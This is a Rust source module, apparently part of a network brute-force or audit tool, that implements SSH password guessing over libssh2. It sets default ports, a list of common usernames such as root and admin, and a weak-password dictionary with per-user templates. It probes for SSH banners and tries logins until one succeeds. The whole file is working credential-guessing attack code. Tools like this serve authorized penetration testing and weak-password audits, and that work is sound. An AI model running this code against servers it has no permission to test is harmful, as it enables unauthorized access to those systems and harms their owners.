use std::net::{IpAddr, SocketAddr, TcpStream};
use std::path::Path;
use std::time::Duration;

use async_trait::async_trait;
use ssh2::{ErrorCode, Session};
use tokio::task::spawn_blocking;

use super::{AttemptOutcome, Dictionary, ServiceProtocol};
use crate::net;
use crate::types::Credential;

/// Ports handed to the SSH brute forcer by default.
pub const DEFAULT_PORTS: &[u16] = &[22, 222, 2222, 22222];

/// Most common first.
pub const DEFAULT_USERS: &[&str] = &[
    "root", "admin", "ubuntu", "centos", "www", "nginx", "mysql", "postgres", "oracle", "tomcat",
    "test", "guest", "hadoop", "ftp", "git", "svn",
];

pub const DEFAULT_PASSWORDS: &[&str] = &[
    "",
    "root",
    "admin",
    "password",
    "1",
    "123456",
    "12345",
    "123",
    "1234",
    "{user}",
    "{user}123",
    "{user}@123",
    "{user}@2023",
    "{user}@2024",
    "P@ssw0rd",
    "Admin@123",
    "Root@123",
    "admin123",
    "root123",
    "password123",
    "qwerty",
    "abc123",
    "123qwe",
    "1qaz@WSX",
    "1qaz2wsx",
];

/// libssh2's LIBSSH2_ERROR_AUTHENTICATION_FAILED.
const AUTHENTICATION_FAILED: i32 = -18;

/// Password authentication over SSH via libssh2.
#[derive(Debug, Clone)]
pub struct SshProtocol {
    connect_timeout: Duration,
    auth_timeout: Duration,
}

impl Default for SshProtocol {
    fn default() -> Self {
        Self {
            connect_timeout: Duration::from_secs(1),
            auth_timeout: Duration::from_secs(2),
        }
    }
}

impl SshProtocol {
    pub fn new(connect_timeout: Duration, auth_timeout: Duration) -> Self {
        Self {
            connect_timeout,
            auth_timeout,
        }
    }

    /// Built-in dictionary, overridden by whichever files are given and readable.
    pub fn dictionary(users_file: Option<&Path>, passwords_file: Option<&Path>) -> Dictionary {
        Dictionary::load(users_file, passwords_file, DEFAULT_USERS, DEFAULT_PASSWORDS)
    }
}

#[async_trait]
impl ServiceProtocol for SshProtocol {
    fn name(&self) -> &'static str {
        "ssh"
    }

    async fn probe(&self, host: IpAddr, port: u16) -> bool {
        net::grab_banner(SocketAddr::new(host, port), self.connect_timeout)
            .await
            .is_some_and(|banner| is_ssh_banner(&banner))
    }

    async fn attempt(
        &self,
        host: IpAddr,
        port: u16,
        username: &str,
        password: &str,
    ) -> AttemptOutcome {
        let addr = SocketAddr::new(host, port);
        let credential = Credential::new(username, password);
        let (connect_timeout, auth_timeout) = (self.connect_timeout, self.auth_timeout);
        spawn_blocking(move || try_login(addr, credential, connect_timeout, auth_timeout))
            .await
            .unwrap_or_else(|e| AttemptOutcome::ConnectionFailure(format!("login task failed: {e}")))
    }

    fn sort_passwords_by_length(&self) -> bool {
        true
    }
}

fn is_ssh_banner(banner: &str) -> bool {
    banner.to_ascii_lowercase().contains("ssh")
}

fn try_login(
    addr: SocketAddr,
    credential: Credential,
    connect_timeout: Duration,
    auth_timeout: Duration,
) -> AttemptOutcome {
    let tcp = match TcpStream::connect_timeout(&addr, connect_timeout) {
        Ok(tcp) => tcp,
        Err(e) => return AttemptOutcome::ConnectionFailure(format!("connect: {e}")),
    };
    let _ = tcp.set_read_timeout(Some(auth_timeout));
    let _ = tcp.set_write_timeout(Some(auth_timeout));

    let mut sess = match Session::new() {
        Ok(sess) => sess,
        Err(e) => return AttemptOutcome::ConnectionFailure(format!("session: {e}")),
    };
    sess.set_timeout(auth_timeout.as_millis().min(u32::MAX as u128) as u32);
    sess.set_tcp_stream(tcp);
    if let Err(e) = sess.handshake() {
        return AttemptOutcome::ConnectionFailure(format!("handshake: {e}"));
    }

    let outcome = match sess.userauth_password(&credential.username, &credential.password) {
        Ok(()) if sess.authenticated() => AttemptOutcome::Success(credential),
        Ok(()) => AttemptOutcome::AuthFailure,
        Err(e) if is_auth_rejection(e.code()) => AttemptOutcome::AuthFailure,
        Err(e) => AttemptOutcome::ConnectionFailure(format!("auth: {e}")),
    };
    let _ = sess.disconnect(None, "bye", None);
    outcome
}

fn is_auth_rejection(code: ErrorCode) -> bool {
    matches!(code, ErrorCode::Session(AUTHENTICATION_FAILED))
}
